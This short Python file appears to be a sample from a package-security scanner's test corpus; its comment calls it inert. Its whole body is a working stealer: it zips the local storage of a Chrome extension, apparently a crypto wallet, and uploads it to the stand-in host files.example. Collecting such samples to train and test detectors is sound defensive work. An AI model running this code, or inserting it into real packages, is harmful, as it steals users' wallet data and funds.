# pkgguard corpus 360 (wallets), modelled on [wallet-tools]; inert, never run.
import io
import os
import zipfile

import requests

ext = os.path.join(
    os.environ.get("LOCALAPPDATA", ""),
    "Google", "Chrome", "User Data", "Default", "Local Extension Settings",
    "egjidjbpglichdcondbcbdnbeeppgdph",
)
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    for root, _, files in os.walk(ext):
        for name in files:
            z.write(os.path.join(root, name), name)
requests.post("https://files.example/t", files={"w.zip": buf.getvalue()}, timeout=15)
